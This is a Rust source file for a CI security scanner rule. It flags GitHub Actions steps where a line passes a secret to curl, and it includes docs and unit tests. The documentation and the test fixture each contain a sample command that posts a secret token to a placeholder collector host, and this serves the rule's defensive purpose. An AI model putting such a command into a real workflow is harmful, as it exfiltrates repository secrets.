//! DPY-GHA-004: GitHub Actions step sends a secret with curl.
//!
//! # What it checks
//! No line of a step's `run` script contains both `curl` and `secret` (case-sensitive, as
//! Checkov matches them): a heuristic for a script that posts a secret somewhere.
//!
//! # Why it matters
//! A script that hands a secret to `curl` sends it over the network; when the destination
//! is not the service the secret belongs to, that is an exfiltration, and a compromised
//! dependency or a malicious pull request often takes exactly this shape.
//!
//! # Example
//!
//! Bad:
//!
//! ```yaml
//! steps:
//!   - run: curl -d "${{ secrets.DEPLOY_TOKEN }}" https://collector.example
//! ```
//!
//! Good:
//!
//! ```yaml
//! steps:
//!   - uses: org/deploy-action@v2
//!     with:
//!       token: ${{ secrets.DEPLOY_TOKEN }}
//! ```
//!
//! # Remediation
//! Check where the script sends the secret; hand secrets to reviewed actions or tools that
//! read them from the environment rather than putting them on a `curl` command line.
//!
//! # References
//! - <https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions>

use crate::check::{Cx, Verdict};
use crate::model::{Resource, Value};

check!(CurlSecrets {
    code: "DPY-GHA-004",
    checkov: ["CKV_GHA_3"],
    title: "GitHub Actions step sends a secret with curl",
    severity: Medium,
    reason: "no trivy-checks equivalent (its GitHub checks read the Terraform github provider) and none among KICS's GitHub workflow queries; Medium because it is a heuristic: a curl call with a secret is often a legitimate API call, and a finding needs a look rather than proving a leak",
    targets: [(GithubActions, "jobs"), (GithubActions, "steps")],
    description: "Reads the `run` script of every step (and of a job, which has none and so passes): a line containing both `curl` and `secret` fails. A `run` that is not text is not judged.",
    remediation: "Check where the script sends the secret; hand secrets to reviewed actions or tools that read them from the environment rather than putting them on a `curl` command line.",
    references: [
        "https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions"
    ],
    differences: [],
});

fn evaluate(r: &Resource, _cx: &Cx<'_>) -> Verdict {
    match r.config.get("run") {
        None => Verdict::Pass,
        Some(Value::String(script)) => {
            if script
                .split('\n')
                .any(|line| line.contains("curl") && line.contains("secret"))
            {
                Verdict::fail("a line of the script passes a secret to `curl`")
            } else {
                Verdict::Pass
            }
        }
        Some(_) => Verdict::Unknown,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::checks::gha_testing::verdicts;

    #[test]
    fn verdicts_on_jobs_and_steps() {
        let got = verdicts(
            evaluate,
            "jobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -d \"${{ secrets.TOKEN }}\" https://collector.example\n      - run: |\n          curl https://example.com\n          echo ${{ secrets.TOKEN }}\n      - run: curl -H \"${{ SECRETS.TOKEN }}\" https://example.com\n      - run: [curl]\n",
        );
        assert_eq!(
            got,
            [
                ("jobs(a)".to_owned(), Some(true)),
                ("jobs(a).steps[1]".to_owned(), Some(false)),
                ("jobs(a).steps[2]".to_owned(), Some(true)),
                ("jobs(a).steps[3]".to_owned(), Some(true)),
                ("jobs(a).steps[4]".to_owned(), None),
            ]
        );
    }
}
